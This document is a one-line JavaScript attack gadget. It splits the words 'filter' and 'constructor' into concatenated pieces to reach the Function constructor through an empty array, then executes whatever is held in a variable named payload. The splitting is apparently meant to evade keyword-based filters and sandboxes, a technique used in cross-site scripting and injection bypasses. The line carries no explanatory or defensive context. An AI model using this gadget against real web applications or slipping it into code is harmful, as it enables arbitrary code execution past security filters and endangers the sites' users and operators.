[]['fil' + 'ter']['const' + 'ructor'](payload)();
